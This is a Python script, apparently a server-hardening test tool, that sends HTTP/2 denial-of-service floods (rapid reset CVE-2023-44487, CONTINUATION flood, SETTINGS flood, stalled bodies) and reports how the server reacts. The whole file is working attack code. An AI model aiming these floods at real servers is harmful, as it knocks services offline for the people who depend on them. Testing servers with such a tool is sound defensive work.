#!/usr/bin/env python3
"""HTTP/2 floods against one connection, written frame by frame with the h2 library.

  h2_flood.py HOST PORT rapid-reset N   HEADERS then RST_STREAM, N times (CVE-2023-44487)
  h2_flood.py HOST PORT continuation N  one HEADERS and N CONTINUATION frames, never ending it
  h2_flood.py HOST PORT settings N      N SETTINGS frames without reading the acks
  h2_flood.py HOST PORT stall-body N    a POST to /echo with N body bytes, then silence
  h2_flood.py HOST PORT stall-length N  a POST to /wait saying content-length 2N, N bytes
                                        sent, then silence (the upstream waits for the rest)

Prints JSON: {"sent": frames sent, "goaway": whether the server sent GOAWAY, "closed": whether
it closed the connection, "reset": whether it reset a stream, "status" and "body" of the
response to stream 1 if one came}.
"""
import json, socket, sys, time
import h2.config, h2.connection, h2.events
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

host, port, kind, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
s = socket.create_connection((host, port))
s.settimeout(5)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
s.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", "/"), (":authority", "flood"), (":scheme", "http")]
sent, goaway, closed, reset = 0, False, False, False
try:
    if kind == "rapid-reset":
        for i in range(n):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers)
            conn.reset_stream(sid)
            s.sendall(conn.data_to_send())
            sent += 2
    elif kind == "continuation":
        block = conn.encoder.encode(headers)
        s.sendall(HeadersFrame(1, data=block[:1]).serialize())
        pad = b"\x40\x01x\x01y" * 200  # literal header fields, over and over
        for i in range(n):
            s.sendall(ContinuationFrame(1, data=pad).serialize())
            sent += 1
    elif kind == "stall-body":
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "POST"), (":path", "/echo"), (":authority", "stall"), (":scheme", "http")])
        conn.send_data(sid, b"x" * n)
        s.sendall(conn.data_to_send())
        sent = 1
    elif kind == "stall-length":
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "POST"), (":path", "/wait"), (":authority", "stall"), (":scheme", "http"),
                                ("content-length", str(2 * n))])
        conn.send_data(sid, b"x" * n)
        s.sendall(conn.data_to_send())
        sent = 1
    elif kind == "settings":
        for i in range(n):
            s.sendall(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize())
            sent += 1
except (BrokenPipeError, ConnectionResetError):
    closed = True
# The server's frames are read raw (9-byte headers), so a GOAWAY is seen even when the h2
# state machine objects to what this client did on purpose.
deadline = time.time() + 5
pending = b""
everything = b""
while time.time() < deadline:
    try:
        data = s.recv(65536)
    except socket.timeout:
        break
    except ConnectionResetError:
        closed = True
        break
    if not data:
        closed = True
        break
    pending += data
    everything += data
    while len(pending) >= 9:
        length = int.from_bytes(pending[:3], "big")
        if len(pending) < 9 + length:
            break
        if pending[3] == 0x7:
            goaway = True
        if pending[3] == 0x3:
            reset = True
            deadline = 0  # the stream's answer is in
        if pending[3] == 0x0 and pending[4] & 0x1 and kind == "stall-length":
            deadline = 0  # the whole answer is in
        pending = pending[9 + length:]
status, body = None, b""
try:
    for e in conn.receive_data(everything):
        if isinstance(e, h2.events.ResponseReceived) and e.stream_id == 1:
            status = int(dict(e.headers)[b":status"])
        elif isinstance(e, h2.events.DataReceived) and e.stream_id == 1:
            body += e.data
except Exception:
    pass  # the floods break the client's own state machine on purpose
print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed, "reset": reset, "status": status,
                  "body": body.decode("latin-1")}))
